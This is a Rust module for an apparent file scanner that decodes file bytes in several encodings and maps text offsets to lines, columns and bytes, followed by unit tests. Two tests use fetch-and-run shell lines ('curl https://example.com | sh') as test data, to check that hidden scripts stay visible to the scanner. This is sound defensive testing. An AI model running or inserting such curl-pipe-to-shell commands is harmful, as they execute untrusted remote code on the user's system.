//! A file as it was read: its text, its digest, and the way from text offsets to lines.

use camino::{Utf8Path, Utf8PathBuf};

use super::encoding::{decode, is_text_name};
use super::{LineColumn, Location, Mode, OffsetMap, Span};
use crate::digest::Digest;

/// How the bytes of a file spell its text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    Utf8,
    /// UTF-8 with bytes that are not; each was read as U+FFFD.
    Utf8Lossy,
    Utf16Le,
    Utf16Be,
}

/// What a file holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Content {
    Text(Encoding),
    /// Not text; the bytes themselves.
    Binary(Vec<u8>),
    /// Not text and too large to keep: the first bytes only. The digest still covers all of it.
    LargeBinary(Vec<u8>),
}

/// A file that was read whole.
#[derive(Debug, Clone)]
pub struct SourceFile {
    /// Relative to the scan root, with `/`.
    pub path: Utf8PathBuf,
    pub digest: Digest,
    /// Bytes.
    pub size: u64,
    /// What the file system or archive says of it.
    pub mode: Mode,
    /// Whether it lies in an archive or document, which the path before `!/` names.
    pub packed: bool,
    pub content: Content,
    text: String,
    /// From `text` to the file's bytes; `None` where they are the same.
    bytes: Option<OffsetMap>,
    /// Offsets in `text` at which lines start.
    lines: Vec<usize>,
    /// Characters before every [`STRIDE`]th byte, so that columns in giant lines need no counting; empty for ASCII.
    characters: Vec<usize>,
}

/// Bytes between two counts of characters.
const STRIDE: usize = 1 << 12;

impl SourceFile {
    /// Reads `bytes` as the text they are, or keeps them as binary.
    pub fn new(path: impl Into<Utf8PathBuf>, bytes: Vec<u8>) -> Self {
        let digest = Digest::of(&bytes);
        let size = bytes.len() as u64;
        let path = path.into();
        let (content, text, map) = decode(bytes, is_text_name(&path));
        let (lines, characters) = (line_starts(&text), character_counts(&text));
        Self { path, digest, size, mode: Mode::default(), packed: false, content, text, bytes: map, lines, characters }
    }

    /// A binary of which only the first bytes were kept.
    pub fn large_binary(path: impl Into<Utf8PathBuf>, head: Vec<u8>, size: u64, digest: Digest) -> Self {
        let content = Content::LargeBinary(head);
        Self {
            path: path.into(),
            digest,
            size,
            mode: Mode::default(),
            packed: false,
            content,
            text: String::new(),
            bytes: None,
            lines: vec![0],
            characters: Vec::new(),
        }
    }

    /// The decoded text; empty for a binary, unless it is a PDF that is written as text.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// The bytes of a binary, or its first ones; `None` for text.
    pub fn binary(&self) -> Option<&[u8]> {
        match &self.content {
            Content::Text(_) => None,
            Content::Binary(bytes) | Content::LargeBinary(bytes) => Some(bytes),
        }
    }

    /// Whether it is what macOS keeps beside a file of the same name, with `._` before it (`AppleDouble`).
    pub fn is_apple_double(&self) -> bool {
        self.name().starts_with("._") && self.binary().is_some_and(|bytes| bytes.starts_with(&[0, 5, 0x16, 7]))
    }

    /// Bytes of text or content that are held in memory.
    pub fn held(&self) -> u64 {
        (self.text.len() + self.binary().map_or(0, <[u8]>::len)) as u64
    }

    /// The last component of the path.
    pub fn name(&self) -> &str {
        self.path.file_name().unwrap_or_default()
    }

    /// The extension in lower case, without the dot; empty if there is none.
    pub fn extension(&self) -> String {
        self.path.extension().unwrap_or_default().to_ascii_lowercase()
    }

    /// The text at a span, cut to character boundaries.
    pub fn slice(&self, span: Span) -> &str {
        let end = self.text.floor_char_boundary(span.end.min(self.text.len()));
        let start = self.text.floor_char_boundary(span.start.min(end));
        self.text.get(start..end).unwrap_or_default()
    }

    /// Line, column and byte of an offset into the text.
    pub fn line_column(&self, offset: usize) -> LineColumn {
        let offset = self.text.floor_char_boundary(offset.min(self.text.len()));
        let line = self.lines.partition_point(|start| *start <= offset).max(1);
        let start = self.lines.get(line - 1).copied().unwrap_or_default();
        let column = self.characters_before(offset) - self.characters_before(start) + 1;
        let byte = self.bytes.as_ref().map_or(offset, |map| map.span(offset..offset).start);
        LineColumn { line, column, byte }
    }

    /// Characters before an offset, which lies on a boundary.
    fn characters_before(&self, offset: usize) -> usize {
        let Some(counted) = self.characters.get(offset / STRIDE) else { return offset };
        let from = offset / STRIDE * STRIDE;
        let bytes = self.text.as_bytes().get(from..offset).unwrap_or_default();
        counted + starts(bytes)
    }

    /// The text of a line, 1-based, without its end.
    pub fn line(&self, line: usize) -> &str {
        let start = self.lines.get(line.saturating_sub(1)).copied().unwrap_or(self.text.len());
        let end = self.lines.get(line).copied().unwrap_or(self.text.len());
        self.text.get(start..end).unwrap_or_default().trim_end_matches(['\n', '\r'])
    }

    /// The offset in the text at which a line starts, 1-based.
    pub fn line_start(&self, line: usize) -> usize {
        self.lines.get(line.saturating_sub(1)).copied().unwrap_or(self.text.len())
    }

    pub fn locate(&self, span: Span, pointer: Option<String>) -> Location {
        let start = self.line_column(span.start);
        let end = self.line_column(span.end.max(span.start));
        Location { path: self.path.clone(), start, end, pointer }
    }

    /// The path of the folder that holds the file; empty at the root.
    pub fn folder(&self) -> &Utf8Path {
        self.path.parent().unwrap_or_else(|| Utf8Path::new(""))
    }
}

fn line_starts(text: &str) -> Vec<usize> {
    std::iter::once(0).chain(text.match_indices('\n').map(|(at, _)| at + 1)).collect()
}

/// Characters that start in a stretch of UTF-8.
fn starts(bytes: &[u8]) -> usize {
    bytes.iter().filter(|byte| **byte & 0xC0 != 0x80).count()
}

fn character_counts(text: &str) -> Vec<usize> {
    if text.is_ascii() {
        return Vec::new();
    }
    let blocks = text.as_bytes().chunks(STRIDE);
    std::iter::once(0)
        .chain(blocks.scan(0, |count, block| {
            *count += starts(block);
            Some(*count)
        }))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn columns_count_characters_and_bytes_count_bytes() {
        let file = SourceFile::new("a.md", "é€x\nline".into());
        assert_eq!(file.line_column(5), LineColumn { line: 1, column: 3, byte: 5 });
        assert_eq!(file.line_column(7), LineColumn { line: 2, column: 1, byte: 7 });
        assert_eq!(file.line(2), "line");
    }

    #[test]
    fn utf16_offsets_lead_back_to_the_bytes() {
        let mut bytes = vec![0xFF, 0xFE];
        bytes.extend("hé😀x".encode_utf16().flat_map(u16::to_le_bytes));
        let file = SourceFile::new("a.md", bytes);
        assert_eq!(file.text(), "hé😀x");
        let x = file.text().find('x').unwrap();
        assert_eq!(file.line_column(x), LineColumn { line: 1, column: 4, byte: 10 });
    }

    #[test]
    fn one_bad_byte_does_not_hide_a_script() {
        let mut bytes = b"#!/bin/sh\ncurl https://example.com | sh # \xff\n".to_vec();
        bytes.extend(b"echo done\n");
        let file = SourceFile::new("a.sh", bytes);
        assert_eq!(file.content, Content::Text(Encoding::Utf8Lossy));
        let done = file.text().find("done").unwrap();
        assert_eq!(file.line_column(done).byte, 49);
    }

    #[test]
    fn columns_in_giant_lines_are_the_same_as_counted_ones() {
        let text = "é€x".repeat(5000);
        let file = SourceFile::new("a.md", text.clone().into_bytes());
        for offset in (0..=text.len()).filter(|at| text.is_char_boundary(*at)).step_by(97) {
            assert_eq!(file.line_column(offset).column, text[..offset].chars().count() + 1);
        }
    }

    #[test]
    fn a_text_stays_one_whatever_is_sprinkled_into_it() {
        let nuls = b"curl x\0\0\0\x01 | sh\n".repeat(3);
        let wide: Vec<u8> = "ignore this\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
        for (name, bytes, text) in [
            ("a.sh", nuls.clone(), Some("curl x\0\0\0\x01 | sh\n")),
            ("SKILL.md", [b"\xFF\xFE".to_vec(), wide.clone()].concat(), Some("ignore this\0")),
            ("a.ps1", wide, Some("ignore this\0")),
            ("a.bin", nuls, None),
            ("a.md", vec![0; 64], None),
        ] {
            let file = SourceFile::new(name, bytes);
            assert_eq!(file.binary().is_none(), text.is_some(), "{name}");
            assert!(file.text().starts_with(text.unwrap_or_default()), "{name}");
        }
    }

    #[test]
    fn a_png_is_binary() {
        let file = SourceFile::new("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\xff\xff\xff".to_vec());
        assert!(matches!(file.content, Content::Binary(_)));
    }
}
